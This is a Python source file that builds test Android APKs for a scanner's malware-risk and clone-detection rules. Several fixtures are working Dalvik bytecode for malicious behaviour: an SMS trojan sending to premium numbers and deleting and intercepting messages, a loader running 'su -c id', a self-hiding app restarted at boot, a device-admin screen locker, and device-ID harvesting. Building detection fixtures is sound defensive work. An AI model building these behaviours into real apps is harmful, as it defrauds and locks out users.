"""The code of the test APKs that exercise the Android risk rules (reviewer_app/scanning/android_rules/).

Each fixture is a few classes written with dexwriter's small assembler, doing what the Java comment above
it says: the DEX files really invoke the framework methods, load the strings and name the classes that the
rules look for, and `dexdump` (run by build.py's check) verifies and disassembles every one of them. The
apps are never run; they need not do anything useful, only look like what they stand for.
"""

from __future__ import annotations

import importlib.util
import io
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType


def sibling(name: str) -> ModuleType:
    """A module beside this file, loaded by its path: packaging/demo_apks is a folder of scripts, not a
    package (and `packaging` is also the name of a well-known distribution)."""
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


_dexwriter = sibling("dexwriter")
ACC_PUBLIC, ACC_STATIC = _dexwriter.ACC_PUBLIC, _dexwriter.ACC_STATIC
ClassDef, Method, write_dex = _dexwriter.ClassDef, _dexwriter.Method, _dexwriter.write_dex

ZIP_DATE_TIME = (1980, 1, 1, 0, 0, 0)

ACTIVITY = "Landroid/app/Activity;"
SERVICE = "Landroid/app/Service;"
RECEIVER = "Landroid/content/BroadcastReceiver;"
ON_CREATE = ("onCreate", "(Landroid/os/Bundle;)V")
ON_RECEIVE = ("onReceive", "(Landroid/content/Context;Landroid/content/Intent;)V")
SEND_TEXT = (
    "Landroid/telephony/SmsManager;.sendTextMessage:(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;"
    "Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V"
)
SMS_DEFAULT = "Landroid/telephony/SmsManager;.getDefault:()Landroid/telephony/SmsManager;"
INTENT_INIT = "Landroid/content/Intent;.<init>:(Landroid/content/Context;Ljava/lang/Class;)V"
START_SERVICE = "Landroid/content/Context;.startService:(Landroid/content/Intent;)Landroid/content/ComponentName;"


@dataclass
class FixtureCode:
    """classes.dex and the other files (assets) an APK gets; `calls` are the methods its check expects
    dexdump to show invoked."""

    classes: list[ClassDef]
    files: list[tuple[str, bytes]] = field(default_factory=list)
    calls: list[str] = field(default_factory=list)
    file_classes: dict[str, list[str]] = field(default_factory=dict)  # a JAR of `files` -> its classes

    @property
    def dex(self) -> bytes:
        return write_dex(self.classes)


def _super_on_create(superclass: str) -> list[tuple]:
    return [("invoke-super", ["p0", "p1"], f"{superclass}.onCreate:(Landroid/os/Bundle;)V")]


def _start_service(context: str, service: str) -> list[tuple]:
    """new Intent(context, Service.class); context.startService(intent) — in locals v0, v1."""
    return [
        ("new-instance", 0, "Landroid/content/Intent;"),
        ("const-class", 1, service),
        ("invoke-direct", [0, context, 1], INTENT_INIT),
        ("invoke-virtual", [context, 0], START_SERVICE),
    ]


def _on_bind() -> Method:
    return Method("onBind", "(Landroid/content/Intent;)Landroid/os/IBinder;", code=[("const/4", 0, 0),
                  ("return-object", 0)])  # fmt: skip


def _jar(entries: list[tuple[str, bytes]]) -> bytes:
    """A JAR (zip) with a fixed timestamp, so the build is reproducible."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE_TIME)
            info.create_system = 0
            zf.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------------ fixtures


def sms_premium() -> FixtureCode:
    """An SMS fee-deduction kit, as the Chinese-market trojans are built:

    class MainActivity extends Activity { onCreate(b) { super.onCreate(b); startService(new Intent(this, ChargeService.class)); } }
    class ChargeService extends Service {
        int onStartCommand(Intent i, int f, int id) {
            String imsi = ((TelephonyManager) getSystemService("phone")).getSubscriberId();
            SmsManager sms = SmsManager.getDefault();
            sms.sendTextMessage("1065880021", null, "KJ01", null, null);   // an SP premium-rate number
            sms.sendTextMessage("83120", null, "KJ01", null, null);        // a short code
            return START_NOT_STICKY;
        }
    }
    class SmsInterceptor extends BroadcastReceiver {           // SMS_RECEIVED, priority 1000
        void onReceive(Context c, Intent i) {
            SmsMessage.createFromPdu((byte[]) i.getExtras().get("pdus"));
            abortBroadcast();                                    // the user never sees the confirmation
            c.getContentResolver().delete(Uri.parse("content://sms/inbox"), "read=0", null);
        }
    }
    class BootReceiver extends BroadcastReceiver { onReceive(c, i) { c.startService(new Intent(c, ChargeService.class)); } }
    """
    pkg = "Lcom/example/fixture/smspremium/"
    service = f"{pkg}ChargeService;"
    send = [
        ("invoke-static", [], SMS_DEFAULT),
        ("move-result-object", 0),
        ("const/4", 2, 0),
        ("const-string", 3, "KJ01"),
        ("const/4", 4, 0),
        ("const/4", 5, 0),
        ("const-string", 1, "1065880021"),
        ("invoke-virtual/range", 0, 6, SEND_TEXT),
        ("const-string", 1, "83120"),
        ("invoke-virtual/range", 0, 6, SEND_TEXT),
    ]
    classes = [
        ClassDef(f"{pkg}MainActivity;", ACTIVITY, methods=[
            Method(*ON_CREATE, code=[*_super_on_create(ACTIVITY), *_start_service("p0", service), ("return-void",)]),
        ]),
        ClassDef(service, SERVICE, methods=[
            Method("onStartCommand", "(Landroid/content/Intent;II)I", code=[
                ("const-string", 0, "phone"),
                ("invoke-virtual", ["p0", 0], f"{service}.getSystemService:(Ljava/lang/String;)Ljava/lang/Object;"),
                ("move-result-object", 0),
                ("check-cast", 0, "Landroid/telephony/TelephonyManager;"),
                ("invoke-virtual", [0], "Landroid/telephony/TelephonyManager;.getSubscriberId:()Ljava/lang/String;"),
                ("move-result-object", 1),
                *send,
                ("const/4", 0, 2),
                ("return", 0),
            ]),
            _on_bind(),
        ]),
        ClassDef(f"{pkg}SmsInterceptor;", RECEIVER, methods=[
            Method(*ON_RECEIVE, code=[
                ("invoke-virtual", ["p2"], "Landroid/content/Intent;.getExtras:()Landroid/os/Bundle;"),
                ("move-result-object", 0),
                ("const-string", 1, "pdus"),
                ("invoke-virtual", [0, 1], "Landroid/os/Bundle;.get:(Ljava/lang/String;)Ljava/lang/Object;"),
                ("move-result-object", 0),
                ("check-cast", 0, "[B"),
                ("invoke-static", [0], "Landroid/telephony/SmsMessage;.createFromPdu:([B)Landroid/telephony/SmsMessage;"),
                ("invoke-virtual", ["p0"], f"{pkg}SmsInterceptor;.abortBroadcast:()V"),
                ("const-string", 0, "content://sms/inbox"),
                ("invoke-static", [0], "Landroid/net/Uri;.parse:(Ljava/lang/String;)Landroid/net/Uri;"),
                ("move-result-object", 0),
                ("invoke-virtual", ["p1"], "Landroid/content/Context;.getContentResolver:()Landroid/content/ContentResolver;"),
                ("move-result-object", 1),
                ("const-string", 2, "read=0"),
                ("const/4", 3, 0),
                ("invoke-virtual", [1, 0, 2, 3],
                 "Landroid/content/ContentResolver;.delete:(Landroid/net/Uri;Ljava/lang/String;[Ljava/lang/String;)I"),
                ("return-void",),
            ]),
        ]),
        ClassDef(f"{pkg}BootReceiver;", RECEIVER, methods=[
            Method(*ON_RECEIVE, code=[*_start_service("p1", service), ("return-void",)]),
        ]),
    ]  # fmt: skip
    return FixtureCode(
        [c.with_constructor() for c in classes],
        calls=[
            SEND_TEXT,
            "Landroid/telephony/TelephonyManager;.getSubscriberId:()Ljava/lang/String;",
            f"{pkg}SmsInterceptor;.abortBroadcast:()V",
            "Landroid/content/ContentResolver;.delete:(Landroid/net/Uri;Ljava/lang/String;[Ljava/lang/String;)I",
        ],
    )


def sms_compose() -> FixtureCode:
    """An ordinary SMS app: it sends what the user typed, to the number the user typed.

    class MainActivity extends Activity {
        public void send(String number, String text) { SmsManager.getDefault().sendTextMessage(number, null, text, null, null); }
    }
    """
    activity = "Lcom/example/fixture/smscompose/MainActivity;"
    classes = [
        ClassDef(activity, ACTIVITY, methods=[
            Method(*ON_CREATE, code=[*_super_on_create(ACTIVITY), ("return-void",)]),
            Method("send", "(Ljava/lang/String;Ljava/lang/String;)V", code=[
                ("invoke-static", [], SMS_DEFAULT),
                ("move-result-object", 0),
                ("move-object/from16", 1, "p1"),
                ("const/4", 2, 0),
                ("move-object/from16", 3, "p2"),
                ("const/4", 4, 0),
                ("const/4", 5, 0),
                ("invoke-virtual/range", 0, 6, SEND_TEXT),
                ("return-void",),
            ]),
        ]),
    ]  # fmt: skip
    return FixtureCode([c.with_constructor() for c in classes], calls=[SEND_TEXT])


PLUGIN_ENTRY = "Lcom/example/plugin/Entry;"


def dynamic_loader() -> FixtureCode:
    """Loads a plugin that it carries in assets/plugin.jar; the plugin asks for root.

    class MainActivity extends Activity {
        onCreate(b) {
            super.onCreate(b);
            InputStream in = getAssets().open("plugin.jar");            // copied to files/plugin.jar
            File jar = new File(getFilesDir(), "plugin.jar");
            ClassLoader loader = new DexClassLoader(jar.getPath(), getCacheDir().getPath(), null, getClassLoader());
            loader.loadClass("com.example.plugin.Entry");
        }
    }
    plugin.jar: class com.example.plugin.Entry { public static void run() { Runtime.getRuntime().exec("su -c id"); } }
    """
    activity = "Lcom/example/fixture/loader/MainActivity;"
    get_path = "Ljava/io/File;.getPath:()Ljava/lang/String;"
    plugin = ClassDef(PLUGIN_ENTRY, methods=[
        Method("run", "()V", ACC_PUBLIC | ACC_STATIC, code=[
            ("invoke-static", [], "Ljava/lang/Runtime;.getRuntime:()Ljava/lang/Runtime;"),
            ("move-result-object", 0),
            ("const-string", 1, "su -c id"),
            ("invoke-virtual", [0, 1], "Ljava/lang/Runtime;.exec:(Ljava/lang/String;)Ljava/lang/Process;"),
            ("return-void",),
        ]),
    ]).with_constructor()  # fmt: skip
    classes = [
        ClassDef(activity, ACTIVITY, methods=[
            Method(*ON_CREATE, code=[
                *_super_on_create(ACTIVITY),
                ("invoke-virtual", ["p0"], f"{activity}.getAssets:()Landroid/content/res/AssetManager;"),
                ("move-result-object", 0),
                ("const-string", 1, "plugin.jar"),
                ("invoke-virtual", [0, 1], "Landroid/content/res/AssetManager;.open:(Ljava/lang/String;)Ljava/io/InputStream;"),
                ("new-instance", 2, "Ljava/io/File;"),
                ("invoke-virtual", ["p0"], f"{activity}.getFilesDir:()Ljava/io/File;"),
                ("move-result-object", 3),
                ("invoke-direct", [2, 3, 1], "Ljava/io/File;.<init>:(Ljava/io/File;Ljava/lang/String;)V"),
                ("new-instance", 0, "Ldalvik/system/DexClassLoader;"),
                ("invoke-virtual", [2], get_path),
                ("move-result-object", 1),
                ("invoke-virtual", ["p0"], f"{activity}.getCacheDir:()Ljava/io/File;"),
                ("move-result-object", 2),
                ("invoke-virtual", [2], get_path),
                ("move-result-object", 2),
                ("const/4", 3, 0),
                ("invoke-virtual", ["p0"], f"{activity}.getClassLoader:()Ljava/lang/ClassLoader;"),
                ("move-result-object", 4),
                ("invoke-direct", [0, 1, 2, 3, 4], "Ldalvik/system/DexClassLoader;.<init>:(Ljava/lang/String;"
                 "Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"),
                ("const-string", 1, "com.example.plugin.Entry"),
                ("invoke-virtual", [0, 1], "Ldalvik/system/DexClassLoader;.loadClass:(Ljava/lang/String;)Ljava/lang/Class;"),
                ("return-void",),
            ]),
        ]),
    ]  # fmt: skip
    return FixtureCode(
        [c.with_constructor() for c in classes],
        files=[("assets/plugin.jar", _jar([("classes.dex", write_dex([plugin]))]))],
        file_classes={"assets/plugin.jar": [PLUGIN_ENTRY]},
        calls=[
            "Ldalvik/system/DexClassLoader;.<init>:(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;"
            "Ljava/lang/ClassLoader;)V",
            "Landroid/content/res/AssetManager;.open:(Ljava/lang/String;)Ljava/io/InputStream;",
        ],
    )


def hidden_icon() -> FixtureCode:
    """Hides its launcher icon on first start and starts itself again at every boot.

    class MainActivity extends Activity {
        onCreate(b) {
            super.onCreate(b);
            getPackageManager().setComponentEnabledSetting(new ComponentName(this, MainActivity.class),
                    COMPONENT_ENABLED_STATE_DISABLED, DONT_KILL_APP);
            startService(new Intent(this, WorkService.class));
            finish();
        }
    }
    class WorkService extends Service { ... }
    class BootReceiver extends BroadcastReceiver { onReceive(c, i) { c.startService(new Intent(c, WorkService.class)); } }
    """
    pkg = "Lcom/example/fixture/hiddenicon/"
    activity, service = f"{pkg}MainActivity;", f"{pkg}WorkService;"
    classes = [
        ClassDef(activity, ACTIVITY, methods=[
            Method(*ON_CREATE, code=[
                *_super_on_create(ACTIVITY),
                ("invoke-virtual", ["p0"], f"{activity}.getPackageManager:()Landroid/content/pm/PackageManager;"),
                ("move-result-object", 2),
                ("new-instance", 3, "Landroid/content/ComponentName;"),
                ("const-class", 4, activity),
                ("invoke-direct", [3, "p0", 4], "Landroid/content/ComponentName;.<init>:(Landroid/content/Context;Ljava/lang/Class;)V"),
                ("const/4", 4, 2),
                ("const/4", 5, 1),
                ("invoke-virtual", [2, 3, 4, 5],
                 "Landroid/content/pm/PackageManager;.setComponentEnabledSetting:(Landroid/content/ComponentName;II)V"),
                *_start_service("p0", service),
                ("invoke-virtual", ["p0"], f"{activity}.finish:()V"),
                ("return-void",),
            ]),
        ]),
        ClassDef(service, SERVICE, methods=[_on_bind()]),
        ClassDef(f"{pkg}BootReceiver;", RECEIVER, methods=[
            Method(*ON_RECEIVE, code=[*_start_service("p1", service), ("return-void",)]),
        ]),
    ]  # fmt: skip
    return FixtureCode(
        [c.with_constructor() for c in classes],
        calls=["Landroid/content/pm/PackageManager;.setComponentEnabledSetting:(Landroid/content/ComponentName;II)V"],
    )


def admin_locker() -> FixtureCode:
    """A screen locker: a device administrator that changes the password and locks the device, and a window
    over every app.

    class LockAdmin extends DeviceAdminReceiver { }
    class LockService extends Service {
        int onStartCommand(Intent i, int f, int id) {
            DevicePolicyManager dpm = (DevicePolicyManager) getSystemService("device_policy");
            dpm.resetPassword("4321", 0);
            dpm.lockNow();
            WindowManager wm = (WindowManager) getSystemService("window");
            wm.addView(new View(this), new WindowManager.LayoutParams(-1, -1, TYPE_SYSTEM_ERROR, 0, 0));
            return START_STICKY;
        }
    }
    """
    pkg = "Lcom/example/fixture/locker/"
    service = f"{pkg}LockService;"
    system_service = f"{service}.getSystemService:(Ljava/lang/String;)Ljava/lang/Object;"
    dpm = "Landroid/app/admin/DevicePolicyManager;"
    params = "Landroid/view/WindowManager$LayoutParams;"
    classes = [
        ClassDef(f"{pkg}LockAdmin;", "Landroid/app/admin/DeviceAdminReceiver;"),
        ClassDef(f"{pkg}MainActivity;", ACTIVITY, methods=[
            Method(*ON_CREATE, code=[*_super_on_create(ACTIVITY), *_start_service("p0", service), ("return-void",)]),
        ]),
        ClassDef(service, SERVICE, methods=[
            Method("onStartCommand", "(Landroid/content/Intent;II)I", code=[
                ("const-string", 0, "device_policy"),
                ("invoke-virtual", ["p0", 0], system_service),
                ("move-result-object", 0),
                ("check-cast", 0, dpm),
                ("const-string", 1, "4321"),
                ("const/4", 2, 0),
                ("invoke-virtual", [0, 1, 2], f"{dpm}.resetPassword:(Ljava/lang/String;I)Z"),
                ("invoke-virtual", [0], f"{dpm}.lockNow:()V"),
                ("const-string", 0, "window"),
                ("invoke-virtual", ["p0", 0], system_service),
                ("move-result-object", 0),
                ("check-cast", 0, "Landroid/view/WindowManager;"),
                ("new-instance", 1, "Landroid/view/View;"),
                ("invoke-direct", [1, "p0"], "Landroid/view/View;.<init>:(Landroid/content/Context;)V"),
                ("new-instance", 2, params),
                ("const/4", 3, -1),
                ("const/4", 4, -1),
                ("const/16", 5, 2010),  # TYPE_SYSTEM_ERROR
                ("const/4", 6, 0),
                ("const/4", 7, 0),
                ("invoke-direct/range", 2, 6, f"{params}.<init>:(IIIII)V"),
                ("invoke-interface", [0, 1, 2],
                 "Landroid/view/WindowManager;.addView:(Landroid/view/View;Landroid/view/ViewGroup$LayoutParams;)V"),
                ("const/4", 0, 1),
                ("return", 0),
            ]),
            _on_bind(),
        ]),
    ]  # fmt: skip
    return FixtureCode(
        [c.with_constructor() for c in classes],
        calls=[f"{dpm}.resetPassword:(Ljava/lang/String;I)Z", f"{dpm}.lockNow:()V"],
    )


def plain() -> FixtureCode:
    """An ordinary app with nothing to report.

    class MainActivity extends Activity {
        onCreate(b) { super.onCreate(b); Log.i("Plain", "started"); Toast.makeText(this, "Hello", LENGTH_SHORT).show(); }
    }
    """
    activity = "Lcom/example/fixture/plain/MainActivity;"
    classes = [
        ClassDef(activity, ACTIVITY, methods=[
            Method(*ON_CREATE, code=[
                *_super_on_create(ACTIVITY),
                ("const-string", 0, "Plain"),
                ("const-string", 1, "started"),
                ("invoke-static", [0, 1], "Landroid/util/Log;.i:(Ljava/lang/String;Ljava/lang/String;)I"),
                ("const-string", 0, "Hello"),
                ("const/4", 1, 0),
                ("invoke-static", ["p0", 0, 1],
                 "Landroid/widget/Toast;.makeText:(Landroid/content/Context;Ljava/lang/CharSequence;I)Landroid/widget/Toast;"),
                ("move-result-object", 0),
                ("invoke-virtual", [0], "Landroid/widget/Toast;.show:()V"),
                ("return-void",),
            ]),
        ]),
    ]  # fmt: skip
    return FixtureCode(
        [c.with_constructor() for c in classes], calls=["Landroid/util/Log;.i:(Ljava/lang/String;Ljava/lang/String;)I"]
    )


# ------------------------------------------------------------------------------------------------ clone fixtures
# The apps of tests/data/clones/: originals, their counterfeits and their legitimate relatives. Each is a few
# ordinary classes; what matters to clone detection is which classes an APK shares with another.

LOG_I = "Landroid/util/Log;.i:(Ljava/lang/String;Ljava/lang/String;)I"
LOG_D = "Landroid/util/Log;.d:(Ljava/lang/String;Ljava/lang/String;)I"


def _descriptor(package: str, name: str) -> str:
    return f"L{package.replace('.', '/')}/{name};"


def _logging_activity(package: str, name: str, tag: str) -> ClassDef:
    """class NAME extends Activity { onCreate(b) { super.onCreate(b); Log.i(TAG, "NAME"); } }"""
    return ClassDef(_descriptor(package, name), ACTIVITY, methods=[
        Method(*ON_CREATE, code=[
            *_super_on_create(ACTIVITY),
            ("const-string", 0, tag),
            ("const-string", 1, name),
            ("invoke-static", [0, 1], LOG_I),
            ("return-void",),
        ]),
    ]).with_constructor()  # fmt: skip


def _logging_helper(package: str, name: str, tag: str, method: str) -> ClassDef:
    """class NAME { public static void METHOD(String s) { Log.d(TAG, s); } }"""
    return ClassDef(_descriptor(package, name), methods=[
        Method(method, "(Ljava/lang/String;)V", ACC_PUBLIC | ACC_STATIC, code=[
            ("const-string", 0, tag),
            ("invoke-static", [0, "p0"], LOG_D),
            ("return-void",),
        ]),
    ]).with_constructor()  # fmt: skip


def _app(package: str, tag: str, activities: list[str], helpers: list[tuple[str, str]]) -> FixtureCode:
    classes = [_logging_activity(package, a, tag) for a in activities]
    classes += [_logging_helper(package, name, tag, method) for name, method in helpers]
    return FixtureCode(classes, calls=[LOG_I] + ([LOG_D] if helpers else []))


def clone_chat() -> FixtureCode:
    """The original chat app (com.example.chat)."""
    return _app("com.example.chat", "Chat", ["MainActivity", "ChatActivity"],
                [("MessageStore", "save"), ("ContactBook", "lookup")])  # fmt: skip


def clone_shop() -> FixtureCode:
    """The original shop app (com.example.shop)."""
    return _app("com.example.shop", "Shop", ["MainActivity", "OrderActivity"], [("Cart", "add"), ("Payment", "pay")])


def clone_shop_update() -> FixtureCode:
    """The next version of the shop app: its classes and a new one, by the same developer."""
    code = clone_shop()
    code.classes.append(_logging_helper("com.example.shop", "Coupons", "Shop", "redeem"))
    return code


def clone_social() -> FixtureCode:
    """The original social app (com.example.social)."""
    return _app("com.example.social", "Birdie", ["MainActivity", "ComposeActivity"],
                [("Timeline", "refresh"), ("Follows", "follow")])  # fmt: skip


def clone_waimai() -> FixtureCode:
    """The shop developer's food-delivery app (com.example.shop.waimai): its own classes."""
    return _app("com.example.shop.waimai", "Waimai", ["MainActivity"], [("Menu", "choose")])


def clone_birdwatch() -> FixtureCode:
    """An unrelated bird-watching field guide (com.example.birdwatch)."""
    return _app("com.example.birdwatch", "Birdwatch", ["MainActivity"], [("Sightings", "record")])


PAYLOAD = "Lcom/adsdk/core/Payload;"
GET_DEVICE_ID = "Landroid/telephony/TelephonyManager;.getDeviceId:()Ljava/lang/String;"


def clone_chat_repack() -> FixtureCode:
    """The chat app's classes, untouched, and one class a repackager added:

    class com.adsdk.core.Payload {
        public static String collect(Context c) { return ((TelephonyManager) c.getSystemService("phone")).getDeviceId(); }
    }
    """
    code = clone_chat()
    code.classes.append(ClassDef(PAYLOAD, methods=[
        Method("collect", "(Landroid/content/Context;)Ljava/lang/String;", ACC_PUBLIC | ACC_STATIC, code=[
            ("const-string", 0, "phone"),
            ("invoke-virtual", ["p0", 0], "Landroid/content/Context;.getSystemService:(Ljava/lang/String;)Ljava/lang/Object;"),
            ("move-result-object", 0),
            ("check-cast", 0, "Landroid/telephony/TelephonyManager;"),
            ("invoke-virtual", [0], GET_DEVICE_ID),
            ("move-result-object", 0),
            ("return-object", 0),
        ]),
    ]).with_constructor())  # fmt: skip
    code.calls.append(GET_DEVICE_ID)
    return code


WEBVIEW_LOAD = "Landroid/webkit/WebView;.loadUrl:(Ljava/lang/String;)V"


def counterfeit_shell(package: str, url: str) -> FixtureCode:
    """A counterfeit's own code: a screen that shows a web page, under the copied name and icon.

    class MainActivity extends Activity {
        onCreate(b) { super.onCreate(b); WebView w = new WebView(this); w.loadUrl(URL); setContentView(w); }
    }
    """
    activity = _descriptor(package, "MainActivity")
    classes = [
        ClassDef(activity, ACTIVITY, methods=[
            Method(*ON_CREATE, code=[
                *_super_on_create(ACTIVITY),
                ("new-instance", 0, "Landroid/webkit/WebView;"),
                ("invoke-direct", [0, "p0"], "Landroid/webkit/WebView;.<init>:(Landroid/content/Context;)V"),
                ("const-string", 1, url),
                ("invoke-virtual", [0, 1], WEBVIEW_LOAD),
                ("invoke-virtual", ["p0", 0], f"{activity}.setContentView:(Landroid/view/View;)V"),
                ("return-void",),
            ]),
        ]),
    ]  # fmt: skip
    return FixtureCode([c.with_constructor() for c in classes], calls=[WEBVIEW_LOAD])


def _shell(package: str, url: str) -> Callable[[], FixtureCode]:
    return lambda: counterfeit_shell(package, url)


FIXTURES: dict[str, Callable[[], FixtureCode]] = {
    "sms-premium": sms_premium,
    "sms-compose": sms_compose,
    "dynamic-loader": dynamic_loader,
    "hidden-icon": hidden_icon,
    "admin-locker": admin_locker,
    "plain": plain,
    "clone-chat": clone_chat,
    "clone-chat-repack": clone_chat_repack,
    "clone-shop": clone_shop,
    "clone-shop-update": clone_shop_update,
    "clone-social": clone_social,
    "clone-waimai": clone_waimai,
    "clone-birdwatch": clone_birdwatch,
    "shell-copycat-shop": _shell("com.copycat.shop", "http://shop.copycat.example/"),
    "shell-shop-lite": _shell("com.example.shop.lite", "http://lite.copycat.example/"),
    "shell-copycat-shoptw": _shell("com.copycat.shoptw", "http://tw.copycat.example/"),
    "shell-knockoff-social": _shell("com.knockoff.social", "http://social.knockoff.example/"),
    "shell-knockoff-birdie": _shell("com.knockoff.birdie", "http://birdie.knockoff.example/"),
    "shell-knockoff-birdielite": _shell("com.knockoff.birdielite", "http://lite.knockoff.example/"),
}
